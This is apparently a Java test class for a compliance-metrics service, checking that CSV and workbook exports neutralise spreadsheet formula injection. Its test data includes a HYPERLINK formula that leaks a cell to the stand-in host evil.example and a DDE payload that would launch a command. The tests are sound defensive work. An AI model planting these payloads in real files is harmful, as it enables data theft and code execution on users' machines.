package org.yingsu.common.export;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.response.Response;
import java.io.ByteArrayInputStream;
import java.util.Arrays;
import java.util.Map;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.yingsu.metrics.ComplianceWorkbookWriter;
import org.yingsu.testing.Exports;
import org.yingsu.testing.Fixtures;

/**
 * CSV injection (OWASP): a name that a spreadsheet would run as a formula is exported as text, with a leading
 * apostrophe, in every CSV and workbook; numbers stay numbers.
 */
@QuarkusTest
class SpreadsheetInjectionTests {

    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点此查看\")";

    private String agencyNamed(String name) {
        String code = Fixtures.unique("AG");
        String stored = given().contentType(ContentType.JSON)
                .body(Map.of("code", code, "name", name, "kind", "SUBDISTRICT")).post("/api/agencies")
                .then().statusCode(201).extract().path("name");
        assertEquals(name, stored, "the API keeps the name as given");
        return code;
    }

    @Test
    void anAgencyNamedLikeAFormulaIsExportedAsTextInTheCsv() {
        String code = agencyNamed(FORMULA);
        String[] lines = Exports.csvLines("/api/metrics/compliance", Map.of("year", 2022, "agencyCode", code));
        String row = Arrays.stream(lines).filter(l -> l.startsWith(code + ",")).findFirst()
                .orElseThrow(() -> new AssertionError("no row for " + code + " in " + String.join("\n", lines)));
        // RFC 4180 quoting (the name holds commas and quotes) around the neutralised name.
        assertTrue(row.startsWith(code + ",\"'" + FORMULA.replace("\"", "\"\"") + "\","), row);
    }

    @Test
    void namesStartingWithEqualsPlusMinusOrAtAreNeutralisedInTheWorkbook() throws Exception {
        // (A leading tab or carriage return never reaches an export through the API: names are stripped.)
        for (String name : new String[] {FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"}) {
            String code = agencyNamed(name);
            Response response = given().accept(ComplianceWorkbookWriter.MEDIA_TYPE).queryParam("year", 2022)
                    .queryParam("agencyCode", code).get("/api/metrics/compliance");
            assertEquals(200, response.statusCode());
            try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(response.asByteArray()))) {
                Row row = null;
                for (Sheet sheet : workbook) {
                    for (Row candidate : sheet) {
                        if (candidate.getCell(0) != null && code.equals(candidate.getCell(0).toString())) {
                            row = candidate;
                        }
                    }
                }
                assertTrue(row != null, "no row for " + code);
                assertEquals("'" + name, row.getCell(1).getStringCellValue());
            }
        }
    }

    @Test
    void plainNumbersAndOrdinaryTextAreLeftAlone() {
        assertEquals("-0.5", Cells.neutralised("-0.5"));
        assertEquals("+12%", Cells.neutralised("+12%"));
        assertEquals("区司法局", Cells.neutralised("区司法局"));
        assertEquals("a=b", Cells.neutralised("a=b"));
        assertEquals("'-", Cells.neutralised("-"));
        assertEquals("'\t=1+1", Cells.neutralised("\t=1+1"));
        assertEquals("'\r=1+1", Cells.neutralised("\r=1+1"));
    }
}
